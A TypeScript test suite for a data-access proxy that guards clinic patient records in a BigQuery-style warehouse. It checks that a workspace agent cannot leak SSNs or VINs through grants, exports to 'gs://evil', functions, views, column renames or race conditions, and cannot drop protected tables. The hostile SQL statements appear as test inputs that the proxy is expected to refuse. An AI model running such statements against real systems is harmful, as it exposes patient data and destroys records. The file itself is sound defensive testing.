/**
 * Threat-model rows 10, 18, 19, 25, 28, 29, 34, 35 and 43 by statements that define and change, for an agent that is permitted
 * whatever there is (`permit (principal, action, resource)`) in its workspace: it must not get at more by them.
 */
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { PROJECT, type Rig } from "../rig.ts";
import {
  type Attacker,
  approve,
  assertQueryRefused,
  assertSafe,
  jobsRunUpstream,
  type Loot,
  sessionOfJob,
  withPatients,
} from "./attacker.ts";
import { anythingInWorkspaceBut, type OpenClinic, openClinic } from "./open-clinic.ts";
import type { ProtectedValues } from "./protected-values.ts";

/** Altered as anybody likes, and not emptied. */
const KEPT = `@id("kept")
forbid (principal, action == Action::"write", resource in Table::"demo-clinic.workspace.kept")
when { ["drop", "delete"].contains(context.via) };`;

describe("an agent that may define and change what it likes in its workspace", () => {
  let clinic: OpenClinic;
  let rig: Rig;
  let secrets: ProtectedValues;
  let agent: Attacker;
  before(async () => {
    clinic = await openClinic({
      "workspace.cedar": () => anythingInWorkspaceBut("phi.ssn", "phi.vehicle"),
      "kept.cedar": () => KEPT,
    });
    ({ rig, secrets, agent } = clinic);
  });
  after(() => clinic.close());

  const workspace = { defaultDataset: { datasetId: "workspace" } };
  const safe = (sql: string): Promise<Loot> => assertSafe(rig, agent, withPatients(sql), workspace);
  const refused = (sql: string): Promise<Loot> => assertQueryRefused(rig, agent, withPatients(sql), workspace);
  async function done(sql: string): Promise<Loot> {
    const loot = await agent.attack(withPatients(sql), workspace);
    assert.equal(loot.session?.state, "done", `${sql}: ${loot.last.body.slice(0, 400)}`);
    return loot;
  }
  const upstreamJobs = (): (string | undefined)[] =>
    rig.warehouse.requests.map(({ body }) => (body.jobReference as { readonly jobId?: string } | undefined)?.jobId);
  /** Ran, gave rows, and each shows nothing. */
  async function nothing(sql: string): Promise<void> {
    const rows = (await done(sql)).rows ?? [];
    assert.ok(rows.length > 0, `${sql} gave no rows`);
    for (const { f } of rows) assert.equal(f[0]?.v, null, sql);
  }

  for (const [row, statements] of Object.entries({
    "34": [
      "CREATE ROW ACCESS POLICY mine ON workspace.list GRANT TO ('allUsers') FILTER USING (TRUE)",
      "DROP ALL ROW ACCESS POLICIES ON workspace.list",
      "GRANT `roles/bigquery.dataViewer` ON SCHEMA workspace TO 'allUsers'",
      "GRANT `roles/bigquery.dataViewer` ON TABLE workspace.list TO 'user:me@evil.example'",
      "REVOKE `roles/bigquery.dataViewer` ON TABLE workspace.list FROM 'user:privacy@clinic.example'",
    ],
    "35": [
      "ALTER TABLE workspace.list SET OPTIONS (labels = [('phi', 'none')])",
      "ALTER TABLE workspace.list SET OPTIONS (description = 'public, ask nobody')",
      "ALTER TABLE workspace.list ALTER COLUMN a SET OPTIONS (description = 'public')",
      "CREATE OR REPLACE TABLE workspace.list (a STRING) OPTIONS (labels = [('phi', 'none')])",
      "ALTER SCHEMA workspace SET OPTIONS (labels = [('phi', 'none')])",
    ],
    "28": ["UNDROP SCHEMA workspace", "DROP SCHEMA workspace CASCADE", "CREATE SCHEMA elsewhere"],
    "19": [
      "LOAD DATA INTO workspace.list FROM FILES (uris = ['gs://evil/*']); SELECT a FROM workspace.list",
      "LOAD DATA INTO ehr.patients FROM FILES (uris = ['gs://evil/*'])",
    ],
    "18": ["EXPORT MODEL ehr.m OPTIONS (uri = 'gs://evil/x')"],
    "25": ["CREATE MODEL workspace.m OPTIONS (model_type = 'kmeans') AS SELECT vin FROM p"],
    "10": [
      "CREATE FUNCTION workspace.bad() AS ((SELECT ANY_VALUE(vin) FROM `demo-clinic.ehr.patients`))",
      "CREATE TABLE FUNCTION workspace.bad() AS SELECT vin FROM `demo-clinic.ehr.patients`",
      "CREATE FUNCTION ehr.mine(x STRING) AS (x)",
      "DROP FUNCTION ehr.age_on",
      "CREATE OR REPLACE FUNCTION workspace.f(x STRING) AS ('x'); SELECT workspace.f(vin) FROM p",
    ],
  })) {
    for (const sql of statements)
      it(`row ${row}: ${sql} is refused`, async () => {
        await done("CREATE OR REPLACE TABLE workspace.list (a STRING)");
        await refused(sql);
      });
  }

  it("row 10: a function shows what it is given under its mask, and can't be redefined beside its use", async () => {
    await done("CREATE OR REPLACE FUNCTION workspace.same(x STRING) AS (x)");
    const shown = await done("SELECT workspace.same(ssn) AS s FROM p");
    for (const { f } of shown.rows ?? []) assert.match(String(f[0]?.v), /^(XXXXX\d{4}|null)$/);
    await refused("SELECT 1 AS x FROM p WHERE workspace.same(ssn) < '5'");
    await refused("SELECT workspace.same(vin) AS s FROM p");
    await refused(
      "CREATE OR REPLACE FUNCTION workspace.same(x STRING) AS ('1'); SELECT workspace.same(vin) AS s FROM p",
    );
    await done("DROP FUNCTION workspace.same");
    await refused("SELECT workspace.same(ssn) AS s FROM p");
  });

  it("a table that policy keeps from being dropped and emptied can't be made to expire", async () => {
    await done(
      "CREATE TABLE workspace.kept (day DATE, a STRING) PARTITION BY day OPTIONS (partition_expiration_days = 4000)",
    );
    await done("ALTER TABLE workspace.kept ADD COLUMN b STRING");
    await done(
      "ALTER TABLE workspace.kept SET OPTIONS (expiration_timestamp = NULL, require_partition_filter = FALSE)",
    );
    for (const sql of [
      "DROP TABLE workspace.kept",
      "DELETE FROM workspace.kept WHERE TRUE",
      "ALTER TABLE workspace.kept SET OPTIONS (expiration_timestamp = TIMESTAMP '2020-01-01 00:00:00+00')",
      "ALTER TABLE workspace.kept SET OPTIONS (expiration_timestamp = TIMESTAMP '9999-01-01 00:00:00+00')",
      "ALTER TABLE workspace.kept SET OPTIONS (partition_expiration_days = 1)",
      "ALTER TABLE workspace.kept ADD COLUMN c STRING, SET OPTIONS (partition_expiration_days = 1)",
      "IF TRUE THEN ALTER TABLE workspace.kept SET OPTIONS (partition_expiration_days = 1); END IF",
      "ALTER SCHEMA workspace SET OPTIONS (default_table_expiration_days = 1)",
      "DROP SCHEMA workspace CASCADE",
    ])
      await refused(sql);
    const path = `/bigquery/v2/projects/${PROJECT}/datasets/workspace/tables/kept`;
    const sent = jobsRunUpstream(rig);
    for (const expirationTime of ["1", "4102444800000"])
      assert.equal((await agent.send("PATCH", path, { body: { expirationTime } })).status, 403);
    assert.equal(jobsRunUpstream(rig), sent);
    assert.equal((await agent.send("PATCH", path, { body: { expirationTime: null } })).status, 200);
  });

  it("row 28: a renamed column keeps its class, and so does one that takes its old name", async () => {
    await done("CREATE OR REPLACE TABLE workspace.moved AS SELECT ssn AS a, 'x' AS b FROM p");
    await done("ALTER TABLE workspace.moved RENAME COLUMN a TO c");
    await nothing("SELECT c FROM workspace.moved");
    await done("ALTER TABLE workspace.moved DROP COLUMN b");
    await done("ALTER TABLE workspace.moved RENAME COLUMN c TO b");
    await nothing("SELECT b FROM workspace.moved");
    await done("ALTER TABLE workspace.moved ADD COLUMN a STRING");
    await done("UPDATE workspace.moved SET a = b WHERE TRUE");
    await nothing("SELECT a FROM workspace.moved");
    await refused("SELECT 1 AS x FROM workspace.moved WHERE b < '5'");
    await safe("CREATE TABLE workspace.again AS SELECT * FROM workspace.moved");
  });

  it("row 37: a name that is a pseudo-column of tables partitioned by day alone is another query's column in one that is by hour", async () => {
    const table = (tableId: string, type: string) =>
      rig.warehouse.loadTable(
        {
          tableReference: { projectId: PROJECT, datasetId: "workspace", tableId },
          schema: { fields: [{ name: "x", type: "STRING" }] },
          timePartitioning: { type },
        },
        [{ x: "x" }],
      );
    await table("by_hour", "HOUR");
    await table("by_month", "MONTH");
    for (const name of ["by_hour", "by_month"]) {
      const inner = `SELECT CONCAT(x, TO_JSON_STRING(_partitiondate)) FROM workspace.${name}`;
      await nothing(`SELECT (${inner}) AS s FROM (SELECT ssn AS _partitiondate FROM p)`);
    }
  });

  const HISTORIES: Readonly<Record<string, (table: string) => readonly string[]>> = {
    "made anew": (table) => [`CREATE OR REPLACE TABLE ${table} (ssn STRING)`],
    "made anew twice": (table) => [
      `CREATE OR REPLACE TABLE ${table} AS SELECT 1 AS y`,
      `CREATE OR REPLACE TABLE ${table} (ssn STRING)`,
    ],
    "dropped and made again": (table) => [`DROP TABLE ${table}`, `CREATE TABLE ${table} (ssn STRING)`],
    "given the column again": (table) => [
      `ALTER TABLE ${table} DROP COLUMN ssn`,
      `ALTER TABLE ${table} ADD COLUMN ssn STRING`,
    ],
    "given another column of its name": (table) => [
      `ALTER TABLE ${table} RENAME COLUMN ssn TO y`,
      `ALTER TABLE ${table} RENAME COLUMN a TO ssn`,
    ],
    "moved away and made again": (table) => [
      `ALTER TABLE ${table} RENAME TO moved_away`,
      `CREATE TABLE ${table} (ssn STRING)`,
    ],
  };
  for (const [how, statements] of Object.entries(HISTORIES))
    it(`row 29: a table that is ${how} keeps the class that a policy tag gave its column, for its rows of before`, async () => {
      const tableId = how.replaceAll(" ", "_");
      const policyTags = { names: [`projects/${PROJECT}/locations/us/taxonomies/1/policyTags/ssn`] };
      const fields = [{ name: "a", type: "STRING" } as const, { name: "ssn", type: "STRING", policyTags } as const];
      const tableReference = { projectId: PROJECT, datasetId: "workspace", tableId };
      // What was decided of a table before it was tagged isn't what holds now.
      await done(`CREATE OR REPLACE TABLE workspace.${tableId} (ssn STRING)`);
      await done(`DROP TABLE workspace.${tableId}`);
      await rig.warehouse.loadTable({ tableReference, schema: { fields } }, [{ a: "x", ssn: "x" }]);
      for (const sql of statements(`workspace.${tableId}`)) await done(sql);
      await done(`INSERT INTO workspace.${tableId} (ssn) VALUES ('x')`);
      const ago = "TIMESTAMP_SUB(CURRENT_TIMESTAMP(), INTERVAL 1 HOUR)";
      await nothing(`SELECT ssn FROM workspace.${tableId} FOR SYSTEM_TIME AS OF ${ago}`);
    });

  it("row 9: what a job reads can't be remade while it runs, nor what it makes", async () => {
    await done("CREATE OR REPLACE TABLE workspace.source AS SELECT 'x' AS a");
    rig.warehouse.misbehave({ kind: "job-delay", milliseconds: 3000, times: 1 });
    const copying = agent.attack("CREATE OR REPLACE TABLE workspace.made AS SELECT * FROM workspace.source", workspace);
    await new Promise((resolve) => setTimeout(resolve, 1000));
    for (const sql of [
      "CREATE OR REPLACE TABLE workspace.source AS SELECT ssn AS a FROM p",
      "INSERT INTO workspace.source SELECT ssn FROM p",
      "ALTER TABLE workspace.source ADD COLUMN ssn STRING",
      "CREATE OR REPLACE TABLE workspace.made (a STRING, ssn STRING)",
      "CREATE OR REPLACE TABLE workspace.further AS SELECT * FROM workspace.made",
    ])
      assert.match((await refused(sql)).last.body, /Another query writes|was not found/, sql);
    const copied = await copying;
    rig.warehouse.calm();
    assert.equal(copied.session?.state, "done");
    await done("CREATE OR REPLACE TABLE workspace.source AS SELECT ssn AS a FROM p");
    assert.deepEqual(
      (await done("SELECT a FROM workspace.made")).rows?.map(({ f }) => f[0]?.v),
      ["x"],
    );
    await nothing("SELECT a FROM workspace.source");
    // A job that failed has let go of its tables.
    await safe("CREATE TABLE workspace.made AS SELECT 1 AS a");
    await safe("CREATE OR REPLACE TABLE workspace.made AS SELECT CAST('x' AS INT64) AS a");
    await done("CREATE OR REPLACE TABLE workspace.made AS SELECT 2 AS a");
  });

  for (const [what, harmless, harmful] of [
    ["function", "FUNCTION workspace.mine(x STRING) AS ('x')", "FUNCTION workspace.mine(x STRING) AS (x)"],
    [
      "view",
      "VIEW workspace.mine AS SELECT 'x' AS s",
      "VIEW workspace.mine AS SELECT ssn AS s FROM `demo-clinic`.ehr.patients",
    ],
    [
      "table function",
      "TABLE FUNCTION workspace.mine() AS SELECT 'x' AS s",
      "TABLE FUNCTION workspace.mine() AS SELECT ssn AS s FROM `demo-clinic`.ehr.patients",
    ],
  ] as const)
    it(`row 10: a ${what} isn't another between a query's analysis and its run`, async () => {
      await done(`CREATE OR REPLACE ${harmless}`);
      const uses = {
        function: "SELECT workspace.mine(ssn) AS s FROM p",
        view: "SELECT s FROM workspace.mine",
        "table function": "SELECT s FROM workspace.mine()",
      };
      rig.warehouse.misbehave({ kind: "job-delay", milliseconds: 3000, times: 1 });
      const started = await agent.query(withPatients(uses[what]), workspace);
      assert.equal(started.status, 200, started.body);
      const { jobReference } = JSON.parse(started.body) as { jobReference: { jobId: string } };
      const session = await sessionOfJob(rig, jobReference.jobId);
      if (session?.state === "held") await approve(rig, session.id);
      while (!upstreamJobs().includes(`chaperone_${session?.id}`)) await new Promise((tick) => setTimeout(tick, 25));
      assert.match((await refused(`CREATE OR REPLACE ${harmful}`)).last.body, /Another query writes/);
      assert.match((await refused(`DROP ${what.toUpperCase()} workspace.mine`)).last.body, /Another query writes/);
      const rows = await agent.results(jobReference.jobId);
      rig.warehouse.calm();
      const cells = (JSON.parse(rows.body) as { rows: { f: { v: string }[] }[] }).rows.map(({ f }) => f[0]?.v);
      assert.deepEqual([...new Set(cells)], ["x"]);
      // Its job is over, and so is the bound.
      await done(`CREATE OR REPLACE ${harmful}`);
      await done(`DROP ${what.toUpperCase()} workspace.mine`);
    });

  for (const sql of [
    "SELECT s FROM `demo-clinic.workspace.like*`",
    "CREATE TABLE workspace.from_like AS SELECT s FROM `demo-clinic.workspace.like*`",
  ])
    it(`row 32: no table more matches while it runs: ${sql}`, async () => {
      await done("CREATE OR REPLACE TABLE workspace.like1 AS SELECT 'x' AS s");
      await done("CREATE OR REPLACE TABLE workspace.unlike AS SELECT ssn AS s FROM p");
      rig.warehouse.misbehave({ kind: "job-delay", milliseconds: 5000, times: 1 });
      const before = jobsRunUpstream(rig);
      const running = agent.attack(sql, workspace);
      while (jobsRunUpstream(rig) === before) await new Promise((tick) => setTimeout(tick, 25));
      for (const another of [
        "CREATE TABLE workspace.like2 AS SELECT ssn AS s FROM p",
        "ALTER TABLE workspace.unlike RENAME TO like2",
      ])
        assert.match((await refused(another)).last.body, /Another query writes/);
      const loot = await running;
      rig.warehouse.calm();
      assert.equal(loot.session?.state, "done");
      const rows = loot.columns.length > 0 ? loot.rows : (await done("SELECT s FROM workspace.from_like")).rows;
      assert.deepEqual(
        rows?.map(({ f }) => f[0]?.v),
        ["x"],
      );
      await done("ALTER TABLE workspace.unlike RENAME TO like2");
      await done("DROP TABLE workspace.like2");
    });

  it("row 43: beside a guess of the agent's, an SSN shows neither its end nor the token that stands for what is none", async () => {
    await done("CREATE OR REPLACE TABLE workspace.guessed AS SELECT ssn FROM p");
    await done(`INSERT INTO workspace.guessed (ssn) VALUES ('no SSN'), ('${secrets.sample.mrn}')`);
    await nothing("SELECT ssn FROM workspace.guessed");
  });
});
